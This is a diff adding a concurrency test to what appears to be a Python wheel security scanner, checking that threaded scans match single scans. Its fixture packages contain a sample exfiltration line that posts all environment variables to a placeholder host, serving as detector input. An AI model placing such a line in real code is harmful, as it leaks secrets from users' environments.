@@ -248,3 +248,30 @@ def test_parsing_in_several_threads_leaves_validation_on():
     assert cst.CSTNode.__dict__["__post_init__"] is hook
     with pytest.raises(cst.CSTValidationError):
         cst.Name("")
+
+
+def test_reuse_is_safe_when_scans_run_on_threads(monkeypatch):
+    """The gate can scan on threads: concurrent scans sharing modules, with a memo small
+    enough to evict all the time, give what one scan alone gives."""
+    from concurrent.futures import ThreadPoolExecutor
+
+    from scanner.analyzers.python import memo
+
+    monkeypatch.setattr(memo, "MAX_ENTRIES", 3)
+    memo.clear()
+    beacon = ("import os, urllib.request\n"
+              "urllib.request.urlopen('https://c.invalid/x', data=repr(os.environ).encode())\n")
+    wheels = [(wheel_bytes(f"p{i}", "1.0", {f"p{i}/__init__.py": beacon,
+                                              f"p{i}/mod{i}.py": f"import subprocess\n"
+                                              f"subprocess.run(['ls', '{i}'])\n"}),
+               wheel_filename(f"p{i}", "1.0")) for i in range(6)]
+
+    def summary(item):
+        result = scan(item[0], filename=item[1])
+        return result.verdict.level, sorted((f.rule, f.path, f.line) for f in result.findings)
+
+    alone = [summary(item) for item in wheels]
+    with ThreadPoolExecutor(4) as pool:
+        together = list(pool.map(summary, wheels * 6))
+    assert together == alone * 6
+    memo.clear()
